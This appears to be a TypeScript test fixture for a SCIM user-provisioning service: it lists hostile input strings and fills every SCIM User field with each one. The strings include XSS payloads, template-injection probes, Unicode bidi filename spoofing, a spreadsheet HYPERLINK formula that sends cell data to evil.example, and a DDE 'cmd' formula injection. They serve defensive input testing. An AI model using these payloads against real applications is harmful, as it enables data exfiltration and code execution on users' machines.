// What somebody may send who means harm, or whose data has been tampered with: each value is tried in every field.

/** A Hebrew word, which is written from right to left: what stands around it must not follow. */
export const rightToLeft = '\u05d0\u05d1\u05d2';

export const hostile = {
  script: '<script>globalThis.ran = "script"</script>',
  image: '"><img src=x onerror="globalThis.ran = 1">',
  attribute: '\' autofocus onfocus="globalThis.ran = 2" x=\'',
  closing: '</bdi></td></table></main><style>*{display:none}</style><a href="https://evil.example">Win</a>',
  comment: '<!-- <base href="https://evil.example/"> -->]]><svg onload="globalThis.ran = 3">',
  link: 'javascript:globalThis.ran=4',
  data: 'data:text/html,<script>opener.ran=5</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is sent
  template: '{{7*7}} ${7*7} <%= 7*7 %> &lt;b&gt;',
  override: `invoice\u202egnp.exe ${rightToLeft}`,
  isolates: `\u2069\u2069\u202c\u2067${rightToLeft} end \u2066`,
  marks: `${rightToLeft}\u200f\u061c (1) \u200e`,
  unseen: 'ad\u200bmin\u2060\u00ad\ufeff\u180e\u3164\u{e0041}',
  lines: 'one\r\ntwo\tthree\u2028four\u0085five\u0007',
  long: 'W'.repeat(450),
  formula: '=HYPERLINK("https://evil.example?"&A1,"x")',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+9)',
  separated: 'x;=1+1\t@SUM(2)\n+3',
  blank: '\u00a0\u2003 ',
  null: 'null',
};

/** Names are not blank. */
export const named = (value: string): string => (value.trim() === '' ? 'blank' : value);

/** What RFC 7643 and this tenant's own settings let somebody say of a user, all of it with this value. */
export function userOf(value: string): object {
  const several = [{ value, display: value, type: value, primary: true }];
  return {
    schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'],
    userName: named(value),
    externalId: value,
    name: {
      formatted: value,
      familyName: value,
      givenName: value,
      middleName: value,
      honorificPrefix: value,
      honorificSuffix: value,
    },
    displayName: value,
    nickName: value,
    profileUrl: value,
    title: value,
    userType: value,
    preferredLanguage: value,
    locale: value,
    timezone: value,
    emails: several,
    phoneNumbers: several,
    ims: several,
    photos: several,
    addresses: [{ formatted: value, streetAddress: value, locality: value, country: value, type: value }],
    roles: several,
    entitlements: several,
    x509Certificates: [{ ...several[0], value: Buffer.from(value).toString('base64') }],
    active: true,
    badge: value,
    'urn:ietf:params:scim:schemas:extension:enterprise:2.0:User': {
      employeeNumber: value,
      costCenter: value,
      organization: value,
      division: value,
      department: value,
    },
  };
}
